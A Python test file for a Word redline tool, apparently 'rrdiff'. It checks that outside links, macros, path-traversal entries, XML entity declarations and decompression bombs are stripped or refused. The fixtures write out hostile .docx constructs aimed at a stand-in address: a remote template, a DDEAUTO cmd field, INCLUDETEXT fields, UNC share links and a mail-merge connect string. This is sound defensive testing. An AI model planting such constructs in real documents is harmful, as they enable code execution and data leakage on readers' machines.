"""What a base may try: nothing outside the package is reached from a redline made in it, and bombs are refused."""

from __future__ import annotations

import re
from collections.abc import Mapping
from io import BytesIO
from zipfile import ZipFile

import pytest

from rrdiff import compare, parse
from rrdiff.errors import UnreadableInput
from rrdiff.readers import read_bytes
from rrdiff.report.word.redline import RedlineOptions
from rrdiff.report.word.source.redline import SourceRedline, source_redline
from tests.readers.word_builder import R, docx, field, p, r, zipped

OUTSIDE = "http://198.51.100.7/outside"
SHARE = r"\\198.51.100.7\share\outside"
TEXT = "第一条　甲单位应当每年报送情况。"
OTHER = docx("第一条　甲单位可以每年报送情况。")


def link(number: int, kind: str, target: str, *, external: bool = True) -> str:
    """A link of the main part."""
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="x{number}" Type="{R}/{kind}" Target="{target}"{mode}/>'


def settings_links(*links: str) -> Mapping[str, str]:
    """Links of the settings."""
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return {"word/_rels/settings.xml.rels": f'<Relationships xmlns="{space}">{"".join(links)}</Relationships>'}


PICTURE = '<w:drawing><a:graphic><a:graphicData><a:blip r:link="x1"/></a:graphicData></a:graphic></w:drawing>'
OLE = '<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" r:id="x1"/></w:object>'
SHAPE = '<w:pict><v:shape><v:imagedata src="' + OUTSIDE + '"/></v:shape></w:pict>'
END = "</w:instrText>"
HOSTILE = {
    "template": docx(
        TEXT,
        settings='<w:attachedTemplate r:id="x1"/>',
        extra=settings_links(link(1, "attachedTemplate", OUTSIDE)),
    ),
    "picture": docx(p(TEXT, r(inside=PICTURE)), relations=link(1, "image", OUTSIDE)),
    "object": docx(p(TEXT, r(inside=OLE)), relations=link(1, "oleObject", f"file:///{SHARE}")),
    "shape": docx(p(TEXT, r(inside=SHAPE))),
    "chunk": docx(TEXT, '<w:altChunk r:id="x1"/>', relations=link(1, "aFChunk", OUTSIDE)),
    "part": docx(TEXT, '<w:subDoc r:id="x1"/>', relations=link(1, "subDocument", OUTSIDE)),
    "share": docx(p(TEXT, f'<w:hyperlink r:id="x1">{r("见")}</w:hyperlink>'), relations=link(1, "hyperlink", SHARE)),
    "program": docx(p(TEXT, field(f'DDEAUTO cmd "{OUTSIDE}"', "值"))),
    "split": docx(p(TEXT, field("INCLUDE", None).replace(END, f"{END}</w:r><w:r><w:instrText>PICTURE {OUTSIDE}{END}"))),
    "simple": docx(p(TEXT, f'<w:fldSimple w:instr="INCLUDETEXT {OUTSIDE}">{r("字")}</w:fldSimple>')),
    "letters": docx(TEXT, settings=f'<w:mailMerge><w:connectString w:val="{OUTSIDE}"/></w:mailMerge>'),
    "broken": docx(
        p(TEXT, f'<w:hyperlink r:id="x1">{r("见")}</w:hyperlink>'),
        relations=link(1, "header", "gone.xml", external=False),
    ),
}


def redlined(base: bytes) -> SourceRedline:
    """The redline of a base and the harmless other text."""
    left, right = (parse(read_bytes(name, data)) for name, data in (("base.docx", base), ("other.docx", OTHER)))
    return source_redline(compare(left, right), base, RedlineOptions(comments=False))


def everything(data: bytes) -> str:
    """All parts of a package in one string."""
    with ZipFile(BytesIO(data)) as archive:
        return "\n".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_outside_is_reached(name: str) -> None:
    """No address outside and no link to one or to nothing is left in a redline, which says that it cut them off."""
    made = redlined(HOSTILE[name])
    found = everything(made.data)

    assert made.removed > 0
    assert made.certificate.proven
    assert "198.51.100.7" not in found
    assert not re.search(r'r:(?:id|link)="x1"', found)
    assert 'Id="x1"' not in found


def test_plain_addresses_stay() -> None:
    """A link to a web page or a mail address that a reader may click stays, and so does every byte of its part."""
    links = link(1, "hyperlink", "https://example.org/a?b=1&amp;c=2") + link(2, "hyperlink", "mailto:a@example.org")
    base = docx(p(TEXT, *(f'<w:hyperlink r:id="x{at}">{r("见")}</w:hyperlink>' for at in (1, 2))), relations=links)
    made = redlined(base)
    name = "word/_rels/document.xml.rels"
    with ZipFile(BytesIO(base)) as before, ZipFile(BytesIO(made.data)) as after:
        assert made.removed == 0
        assert after.read(name) == before.read(name)


def test_macros_are_left_out() -> None:
    """A document with macros becomes a plain one without them."""
    base = docx(
        TEXT,
        extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"},
        relations=f'<Relationship Id="x1" Type="{R}/vbaProject" Target="vbaProject.bin"/>',
    )
    with ZipFile(BytesIO(base)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    types = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    made = redlined(zipped({**parts, "[Content_Types].xml": types}))

    assert made.removed == 1
    assert "macro" not in everything(made.data)


def test_entries_that_lead_out_are_left_out() -> None:
    """An entry whose name leads out of the package is not passed on."""
    made = redlined(docx(TEXT, extra={"../outside.txt": "x", "word/../../outside.txt": "x", "C:/outside.txt": "x"}))

    assert "outside" not in " ".join(ZipFile(BytesIO(made.data)).namelist())


@pytest.mark.parametrize("part", ["word/header1.xml", "word/comments.xml"])
def test_entities_are_refused(part: str) -> None:
    """A part that declares entities is refused, though its text is not compared."""
    bomb = (
        f'<!DOCTYPE a [<!ENTITY b "{OUTSIDE}">]><w:hdr xmlns:w="urn:w"><w:instrText w:id="1">&b;</w:instrText></w:hdr>'
    )

    with pytest.raises(UnreadableInput):
        redlined(docx(TEXT, extra={part: bomb}))


def test_bombs_are_refused() -> None:
    """A part that unpacks beyond reason is refused before it is unpacked."""
    with pytest.raises(UnreadableInput):
        redlined(docx(TEXT, extra={"word/media/image1.png": b"\0" * 40_000_000}))
